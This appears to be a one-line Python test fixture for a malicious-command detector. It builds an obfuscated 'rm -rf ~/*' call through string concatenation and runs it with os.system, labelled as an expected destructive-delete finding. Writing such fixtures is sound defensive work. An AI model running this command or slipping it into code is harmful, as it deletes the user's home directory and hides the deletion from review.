import os

os.system("r" + "m -r" + "f ~/*") # expect: malicious-command/destructive-delete
